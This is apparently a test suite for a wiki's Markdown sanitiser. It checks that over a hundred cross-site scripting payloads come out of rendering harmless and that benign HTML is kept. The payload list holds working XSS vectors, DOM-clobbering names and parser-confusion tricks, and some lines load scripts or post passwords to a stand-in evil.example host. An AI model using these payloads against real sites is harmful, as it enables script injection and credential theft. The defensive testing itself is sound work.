import t from 'tap';
import { renderMarkdown } from './pipeline/render-markdown.ts';
import { dangersIn } from './testing/dangers-in.ts';
import { htmlOf } from './testing/html-of.ts';

// As saved by a writer; `alert(1)` means any script.
const attacks = [
  // Elements that run or load something by themselves.
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"></use></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<style>@import "//evil.example/x.css";</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<title><img title="</title><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<picture><source srcset="javascript:alert(1)"><img src=x onerror=alert(1)></picture>',
  '<frameset onload=alert(1)>',
  '<body onload=alert(1)>',
  '<html onmouseover=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<custom-element onclick=alert(1) is="x-y">x</custom-element>',
  // Event handlers and their disguises.
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x ONERROR="alert(1)">',
  '<img src=x onerror\n=\nalert(1)>',
  '<a href=x onclick="alert(1)">x</a>',
  '<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>',
  '<div onpointerenter=alert(1) onanimationstart=alert(1)>x</div>',
  '<input autofocus onfocus=alert(1)>',
  '<ul><li><input type=password name=process onfocus=alert(1) autofocus></li></ul>',
  '<b/onmouseover="alert(1)">x</b>',
  '<p title="<img src=x onerror=alert(1)>">x</p>',
  "<abbr title='\"><img src=x onerror=alert(1)>'>x</abbr>",
  // Addresses.
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](java&Tab;script:alert(1))',
  '[x](java&NewLine;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](blob:https://evil.example/1)',
  '[x](file:///etc/passwd)',
  '[x](view-source:javascript:alert(1))',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](data:text/html,<script>alert(1)</script>)',
  '![x](DATA:IMAGE/SVG+XML;base64,PHN2Zz4=)',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;vascript&#58;alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="javascript:alert(1)" href="https://a.example">x</a>',
  '<img src="x" srcset="javascript:alert(1) 1x" longdesc="javascript:alert(1)" usemap="#x">',
  '<q cite="javascript:alert(1)">x</q>',
  '<a ping="https://evil.example" target="_blank" download rel="opener" href="x">x</a>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
  '[[javascript:alert(1)]] [[javascript:alert(1)|x]] ![[javascript:alert(1)]]',
  '[[data:text/html,<script>alert(1)</script>|x]]',
  '> [!NOTE] [x](javascript:alert(1)) <img src=x onerror=alert(1)>',
  '::: tip <img src=x onerror=alert(1)>\nx\n:::',
  '- [ ] <input type=image src=x onerror=alert(1)>',
  '[^1]\n\n[^1]: [x](javascript:alert(1))<img src=x onerror=alert(1)>',
  '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: x',
  '# <img src=x onerror=alert(1)> [x](javascript:alert(1))',
  // Forms and what looks like the wiki's own interface.
  '<form action="https://evil.example"><input name=password type=password><button formaction="javascript:alert(1)">x</button></form>',
  '<button onclick=alert(1)>x</button><select><option>x</option></select>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<div style="position:fixed;inset:0;background:url(javascript:alert(1))">x</div>',
  '<p style="width:expression(alert(1))">x</p>',
  '<dialog open>x</dialog><a popovertarget=x>y</a>',
  // Names and ids that shadow variables and methods.
  '<a id=process></a><a name=constructor></a><img name=cookie><a id=__proto__></a>',
  '# process\n# constructor\n# __proto__\n# module\n# define',
  '<img name=getElementById><img id=body>',
  // Code, formulas and diagrams.
  '```js\n<img src=x onerror=alert(1)>\n```',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]; click A "javascript:alert(1)"\n```',
  '<pre class="mermaid"><code onclick=alert(1)><img src=x onerror=alert(1)></code></pre>',
  '<pre><code class="language-js hljs" onclick=alert(1)>x</code></pre>',
  '<code class="language-math">\\href{javascript:alert(1)}{x}</code>',
  '<code class="language-math"><img src=x onerror=alert(1)></code>',
  '<span class="katex"><span style="position:fixed">x</span><svg onload=alert(1)></svg></span>',
  '$\\href{javascript:alert(1)}{x}$ $\\text{<img src=x onerror=alert(1)>}$',
  '$\\htmlStyle{position:fixed}{x} \\htmlId{process}{x} \\includegraphics{x}$',
  '$\\color{red;position:fixed}{x}$ $\\textcolor{url(x)}{y}$',
  // Markdown and HTML disagreeing on an end.
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml <img src=x onerror=alert(1)> ?>',
  '<a title="\n\n<img src=x onerror=alert(1)>\n\n">x</a>',
  '<div title="`">`<img src=x onerror=alert(1)>`',
  '`<a href="`"><img src=x onerror=alert(1)>`">',
  '[x](https://a.example "\\"><img src=x onerror=alert(1)>")',
  '![`<img src=x onerror=alert(1)>`](x)',
  '![x" onerror="alert(1)](x)',
  '<https://a.example/"onmouseover="alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)>',
  '---\ntitle: <img src=x onerror=alert(1)>\n---\nx',
];

t.ok(attacks.length >= 60, 'enough of them');

for (const attack of attacks) {
  t.test(JSON.stringify(attack), async (t) => {
    t.same(dangersIn(renderMarkdown(attack).ast), [], 'alone');
    t.same(dangersIn(renderMarkdown(`text ${attack} text`).ast), [], 'in a line');
    t.same(dangersIn(renderMarkdown(`<div>\n${attack}\n</div>\n\n> - ${attack}`).ast), [], 'in HTML, in a list');
    t.same(dangersIn(renderMarkdown(`| ${attack.replaceAll('\n', ' ')} |\n|---|`).ast), [], 'in a table');
  });
}

t.test('the inspection itself detects dangers', async (t) => {
  const element = (tagName: string, properties = {}) => ({
    type: 'root' as const,
    children: [{ type: 'element' as const, tagName, properties, children: [] }],
  });
  t.same(dangersIn(element('p', { title: 'x' })), []);
  t.same(dangersIn(element('a', { href: 'a/b:c' })), []);
  t.same(dangersIn(element('script')), ['<script>']);
  t.same(dangersIn(element('a', { href: 'javascript:x' })), ['<a> href javascript:x']);
  t.same(dangersIn(element('img', { src: 'data:image/svg+xml,x' })), ['<img> src data:image/svg+xml,x']);
  t.same(dangersIn(element('p', { onClick: 'x' })), ['<p> onClick']);
  t.same(dangersIn(element('p', { style: 'x' })), ['<p> style x']);
  t.same(dangersIn({ type: 'root', children: [{ type: 'raw', value: '<b>' }] }), ['a raw']);
});

t.test('harmless content stays', async (t) => {
  const kept = [
    '<details open><summary>S</summary>x</details>',
    '<kbd>a</kbd><sub>b</sub><sup>c</sup><mark>d</mark><ins>f</ins><small>g</small>',
    '<abbr title="x">e</abbr><ruby>漢<rt>かん</rt></ruby><bdo dir="rtl">x</bdo><span lang="ja">x</span>',
    '<div align="center"><img src="https://a.example/x.png" alt="x" width="10" height="20"></div>',
    '<table><thead><tr><th colspan="2" scope="col">x</th></tr></thead><tbody><tr><td rowspan="2" valign="top">x</td></tr></tbody></table>',
    '<dl><dt>a</dt><dd>b</dd></dl>',
    '<figure><img src="x.png"><figcaption>c</figcaption></figure>',
    '<ol start="3" reversed type="a"><li value="4">x</li></ol>',
    '<center>x</center>',
    '<a href="tel:+123">a</a><a href="mailto:a@b.example">b</a>',
    '<del datetime="2024-01-01">x</del><time datetime="2024">y</time>',
  ];
  for (const html of kept) t.equal(htmlOf(`<div>${html}</div>`), `<div>${html}</div>`, html);
  for (const type of ['png', 'jpeg', 'gif', 'webp']) {
    t.equal(htmlOf(`![](data:image/${type};base64,AAAA)`), `<p><img src="data:image/${type};base64,AAAA" alt=""></p>`);
  }
});

t.test('ids written in HTML are moved out of the way, and so are the names of variables', async (t) => {
  t.equal(htmlOf('<p id="x">a</p>'), '<p id="user-content-x">a</p>');
  t.equal(htmlOf('<p id="user-content-x">a</p>'), '<p id="user-content-x">a</p>');
  t.equal(htmlOf('<div><a name="y">a</a></div>'), '<div><a id="user-content-y">a</a></div>');
  t.equal(htmlOf('<p id="">a</p><p id="a b">b</p>'), '<p>a</p><p>b</p>');
  t.match(htmlOf('# Process'), '<h1 id="user-content-process">');
  t.match(htmlOf('# Processes'), '<h1 id="processes">');
});

t.test('an input is a disabled checkbox in a list, or nothing', async (t) => {
  t.equal(htmlOf('<div><input type="password"></div>'), '<div></div>');
  t.equal(
    htmlOf('<ul><li><input type="text" value="x"></li></ul>'),
    '<ul><li><input type="checkbox" disabled></li></ul>',
  );
});

t.test('an address is read as a browser reads it', async (t) => {
  const address = (href: string) => htmlOf(`<a href="${href}">x</a>`);
  t.equal(address(' https://a.example '), address('https://a.example'));
  t.equal(address('&#1;x&#10;y'), '<p><a href="xy">x</a></p>');
  t.equal(address('java&#9;script:x'), '<p><a>x</a></p>');
  t.equal(address('日本:x'), '<p><a href="./日本:x">x</a></p>');
});

t.test('classes are only those the wiki itself gives', async (t) => {
  t.equal(htmlOf('<p class="modal callout-title">a</p>'), '<p class="callout-title">a</p>');
  t.equal(htmlOf('<div class="sidebar katex anchor">a</div>'), '<div class="">a</div>');
});
